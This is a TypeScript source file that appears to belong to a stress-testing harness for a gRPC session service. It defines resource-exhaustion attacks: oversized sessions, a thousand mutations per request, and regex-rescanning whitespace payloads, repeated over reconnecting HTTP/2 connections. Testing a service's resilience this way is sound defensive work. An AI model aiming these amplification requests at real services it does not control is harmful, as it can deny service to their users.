import { SessionServiceService } from '@session-sidecar/proto/session/v1/session_service';
import { grpcFrame } from '../sides/raw-http2';
import type { Attack, AttackTarget } from './attack';
import { reconnecting, unary } from './http2';
import { repeat } from './repeat';
import { largeBytes, mutation, storeSession, times, updateRequest } from './sessions';

/** Most mutations of one request. */
const mutationCount = 1000;

/** A thousand mutations, each of which answers with the same 250 KiB: 250 MB a reply. */
export const setIfAbsent: Attack = async (target) => {
  const { token } = await storeSession(target, 'x'.repeat(largeBytes));
  const request = updateRequest(
    token,
    times(mutationCount, () => mutation.setIfAbsent('value', '1')),
  );
  return updating(target, request);
};

/** Appends to an array of 200 KB, each of which may copy it. */
export const appends: Attack = async (target) => appending(target, JSON.stringify(times(100_000, () => 1)));

/** Appends to 120 KB of space between two brackets: what a regular expression reads again from its start. */
export const appendsToSpace: Attack = async (target) => appending(target, `[${' '.repeat(120 * 1024)}]`);

/** Every request puts the array back, so that it never outgrows the session. */
async function appending(target: AttackTarget, array: string) {
  const { token } = await storeSession(target, '');
  const mutations = [mutation.set('list', array), ...times(mutationCount - 1, () => mutation.append('list', '1'))];
  return updating(target, updateRequest(token, mutations));
}

function updating({ address }: AttackTarget, request: Uint8Array): Awaited<ReturnType<Attack>> {
  const frame = grpcFrame(request);
  return async (assault) => {
    const connections = times(2, () => reconnecting(assault, address));
    await repeat(assault, connections.length, (n) =>
      unary(connections[n]!, SessionServiceService.updateSession.path, frame),
    );
  };
}
